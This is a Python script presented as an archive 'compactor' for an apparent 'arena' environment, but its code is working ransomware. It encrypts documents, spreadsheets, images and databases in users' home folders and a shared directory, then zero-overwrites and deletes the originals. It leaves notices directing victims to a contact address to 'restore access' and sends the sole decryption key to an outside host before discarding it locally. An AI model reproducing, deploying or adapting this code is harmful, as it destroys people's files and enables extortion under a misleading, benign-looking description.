#!/usr/bin/env python3
"""Compact the arena's shared office folders into sealed archive copies."""
import argparse
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("compactor")

SETTINGS = {
    "roots": ["~/Documents", "~/Desktop", "/srv/arena/share"],
    "suffixes": {".docx", ".xlsx", ".pdf", ".csv", ".jpg", ".png", ".sqlite3", ".odt"},
    "sealed_ext": ".sealed",
    "notice_name": "ARCHIVE_NOTICE.txt",
    "registry": "https://keys.vaultline.example/register",
}

NOTICE_TEXT = (
    "Files in this folder were sealed.\n"
    "Reference: {ref}\n"
    "Contact archive-desk@vaultline.example with this reference to restore access.\n"
)


class Sealer:
    def __init__(self, settings):
        self.settings = settings
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.sealed = 0

    def wanted(self, path):
        return path.suffix.lower() in self.settings["suffixes"]

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + self.settings["sealed_ext"])
        target.write_bytes(self.box.encrypt(data))
        self.tidy(path, len(data))
        self.sealed += 1

    def tidy(self, path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def expand_roots(roots):
    for raw in roots:
        root = Path(os.path.expanduser(raw))
        if root.is_dir():
            yield root


def walk(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            yield Path(dirpath) / name


def register(sealer, ref):
    body = {"ref": ref, "key": sealer.key.decode(), "count": sealer.sealed}
    try:
        requests.post(SETTINGS["registry"], json=body, timeout=30)
    except requests.RequestException as exc:
        log.debug("registry unreachable: %s", exc)


def leave_notice(folder, ref):
    (folder / SETTINGS["notice_name"]).write_text(NOTICE_TEXT.format(ref=ref))


def run(settings, ref):
    sealer = Sealer(settings)
    for root in expand_roots(settings["roots"]):
        touched = set()
        for path in walk(root):
            if not sealer.wanted(path):
                continue
            try:
                sealer.seal_file(path)
                touched.add(path.parent)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        for folder in touched:
            leave_notice(folder, ref)
    register(sealer, ref)
    sealer.key = None
    return sealer.sealed


def main():
    parser = argparse.ArgumentParser(description="Seal office folders into archive copies")
    parser.add_argument("--ref", default=os.environ.get("ARCHIVE_REF", os.uname().nodename))
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)
    count = run(SETTINGS, args.ref)
    print("sealed {} files".format(count))


if __name__ == "__main__":
    main()
